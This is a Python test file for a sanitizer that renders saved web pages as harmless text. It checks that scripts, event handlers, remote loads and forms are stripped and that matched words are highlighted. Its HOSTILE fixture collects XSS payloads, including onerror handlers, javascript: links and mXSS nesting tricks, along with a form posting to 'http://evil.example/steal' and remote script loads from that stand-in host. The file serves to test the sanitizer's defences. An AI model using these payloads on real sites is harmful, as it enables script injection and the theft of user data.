"""A page from the web, shown: its words and nothing that runs, loads, sends or leads anywhere."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import html

from desk import stored

HOSTILE = """<!DOCTYPE html><html><head><title></title><script>alert(1)</script></title><base href="http://evil.example/">
<meta http-equiv="refresh" content="0;url=http://evil.example/"><link rel="stylesheet" href="//evil.example/x.css">
<style>body{background:url(http://evil.example/t)}</style></head>
<body onload="alert(2)" background="http://evil.example/b.png"><script src="//evil.example/x.js"></script>
<p style="background:url(//evil.example)" onclick="alert(3)">最新日期 2026-03-20：<b>古渡县</b>培训班</p>
<a href="javascript:alert(4)">点我</a><a href="java&#10;script:alert(5)" ping="http://evil.example">再点</a>
<img src=x onerror=alert(6) alt="<script>alert(7)</script>"><svg onload=alert(8)><script>alert(9)</script></svg>
<iframe srcdoc="<script>parent.alert(10)</script>"></iframe><object data="data:text/html,<script>alert(11)</script>"></object>
<form action="http://evil.example/steal"><input name=p value="口令" autofocus onfocus=alert(12)><textarea></textarea><button formaction="javascript:alert(13)">提交</button></form>
<math><mtext></form><form><mglyph><style></math><img src onerror=alert(14)></style></mglyph></form></mtext></math>
<noscript><p title="</noscript><img src=x onerror=alert(15)>"></noscript>
<template><script>alert(16)</script></template><xmp><script>alert(17)</script></xmp><plaintext><script>alert(18)</script>
"""
HARMLESS = {"a", "abbr", "b", "body", "head", "header", "html", "main", "mark", "meta", "style", "title"} | set(
    stored._KEPT
)


def parsed(text):
    return html.document_fromstring(text)


def harmless(text):
    tree = parsed(text)
    for element in tree.iter():
        if not isinstance(element.tag, str):
            continue
        assert element.tag in HARMLESS, element.tag
        allowed = {"colspan", "rowspan"} if element.tag in ("td", "th") else set()
        allowed |= {"html": {"lang", "class"}, "meta": {"charset"}, "mark": {"id"}}.get(element.tag, set())
        assert set(element.attrib) <= allowed | {"colspan", "rowspan"}, (element.tag, dict(element.attrib))
    (style,) = tree.iter("style")
    assert style.text == stored._STYLE
    assert len(list(tree.iter("meta"))) == 1
    return tree


def test_nothing_of_a_hostile_page_is_left_but_its_words():
    tree = harmless(stored.shown(HOSTILE.encode(), "text/html", ["2026-03-20"], "<script>alert(0)</script>"))
    text = tree.text_content()
    for words in ("培训班", "点我", "提交", "[输入框：口令]", "2026-03-20", "<script>alert(0)</script>"):
        assert words in text
    assert [m.text for m in tree.iter("mark")] == ["2026-03-20"]


@given(
    st.lists(
        st.sampled_from(
            ["<script>", "</script>", "<style>", "<svg>", "<math>", "<p onclick=x>", "<a href=javascript:x>", "<xmp>", "<!--", "-->", "<![CDATA[",
             "]]>", "<title>", "</title>", "<textarea>", "<iframe src=x>", "<noembed>", "<plaintext>", "<frameset>", "<table>", "<td colspan=3>",
             "<template>", "</p>", "&lt;script&gt;", "&#60;", "\0", "<mark>", "<select><option>", "文字", "<", ">", '"', "'", "<a\x0chref=x>", "<body onload=x>"]
        ),
        max_size=25,
    ).map("".join),
    st.text(max_size=12),
)  # fmt: skip
def test_no_markup_comes_through_whatever_is_mixed(page, words):
    harmless(stored.shown(page.encode("utf-8", "replace"), "text/html", [words], words))


@given(st.binary(max_size=300), st.one_of(st.none(), st.text(max_size=20)))
def test_any_bytes_are_shown_or_named(body, kind):
    harmless(stored.shown(body, kind, ["a"], ""))


@pytest.mark.parametrize(
    "outer", ["select", "textarea", "iframe", "img", "input", "svg", "noscript", "frameset", "title"]
)
@pytest.mark.parametrize("inner", ["script", "style", "svg", "select", "p", "template", "link"])
def test_what_stands_in_something_else_goes_with_it(outer, inner):
    tree = harmless(
        stored.shown(
            f"<{outer}><{inner}>a</{inner}></{outer}><p>后面</p>".encode(), "text/html; charset=utf-8", ["a"], ""
        )
    )
    assert outer in ("textarea", "title", "iframe", "select") or "后面" in tree.text_content()


def test_a_page_of_a_thousand_nested_elements_is_shown():
    assert "深处" in stored.shown(("<div>" * 1_000 + "深处").encode(), "text/html", [], "")


@pytest.mark.parametrize(
    ("page", "words", "marked"),
    [
        ("<p>暂无内容</p>", "暂无内容", ["暂无内容"]),
        ("<p>暂 无\n内 容</p>", "暂无内容", ["暂 无\n内 容"]),
        (
            "<li>关于举行培训班的通知 2026年3月20日</li>",
            "2026-03-20 关于举行培训班的通知",
            ["关于举行培训班的通知", "2026年3月20日"],
        ),
        ("<p>公开属性:依申请公开</p>", "公开属性:依申请公开", ["公开属性:依申请公开"]),
        ("<p>a.b</p><p>axb</p>", "a.b", ["a.b"]),
        ("<p>别的</p>", "暂无内容", []),
        ("<p>任意</p>", "", []),
    ],
)
def test_the_words_that_decided_are_marked(page, words, marked):
    tree = parsed(stored.shown(page.encode(), "text/html; charset=utf-8", [words], ""))
    assert [m.text for m in tree.iter("mark")] == marked
    assert [m.get("id") for m in tree.iter("mark")][:1] == (["mark"] if marked else [])


def test_a_page_in_gb18030_is_read():
    assert "政府信息公开指南" in stored.shown(
        "<p>政府信息公开指南</p>".encode("gb18030"), "text/html; charset=gb2312", [], ""
    )


def test_a_feed_is_text_and_a_file_is_named():
    assert "&lt;rss" in stored.shown(b"<rss><script>1</script></rss>", "application/rss+xml", [], "")
    assert "PDF" in stored.shown(b"%PDF-1.7 ...", "application/pdf", [], "")
    assert [stored.ending(b) for b in (b"%PDF-1", b"PK\x03\x04", b"<html>", b"\0\1")] == ["pdf", "zip", "txt", "bin"]
    assert stored.picture_kind(b"<svg onload=x>") is None


def test_the_policy_lets_nothing_through_but_our_own_style():
    rules = dict(part.strip().partition(" ")[::2] for part in stored.POLICY.split(";"))
    assert rules["default-src"] == "'none'"
    assert rules["sandbox"] == ""
    assert re.fullmatch(r"'sha256-[\w+/=]+'", rules["style-src"])
    assert "script-src" not in rules
